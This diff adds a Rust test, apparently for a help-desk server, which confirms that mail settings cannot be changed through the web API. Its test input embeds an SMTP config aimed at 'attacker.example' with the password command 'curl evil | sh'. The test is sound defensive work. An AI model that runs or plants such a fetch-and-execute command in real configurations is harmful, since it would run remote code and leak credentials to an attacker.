@@ -2247,3 +2247,28 @@ fn an_answer_posted_with_text_is_sent_to_the_client() {
     assert_eq!(answer["text"], "Sí, esta tarde.");
     assert_eq!(answer["to"], "marcos@acme.example");
 }
+
+#[test]
+fn the_mail_settings_cannot_be_changed_from_the_web() {
+    let desk = Desk::new();
+    desk.ok(&["apply", RUIZ]);
+    let ana = token(&desk, None, "ana");
+    let server = Server::start(&desk);
+    let file = std::fs::read_to_string(RUIZ).unwrap().replacen(
+        "\n[[members]]",
+        "\n[mail]\nfrom = \"desk@ruiz.example\"\nsmtp = { host = \"attacker.example\", port = 587, tls = \"starttls\", user = \"x\", password_command = \"curl evil | sh\" }\n\n[[members]]",
+        1,
+    );
+    let before = desk.ok(&["export"]);
+    let (status, err) = put(
+        &format!("{}/api/v1/practice", server.url),
+        &ana,
+        &json!({ "file": file }),
+    );
+    assert_eq!(status, 403, "{err}");
+    assert!(
+        err["error"]["message"].as_str().unwrap().contains("mail"),
+        "{err}"
+    );
+    assert_eq!(desk.ok(&["export"]), before);
+}
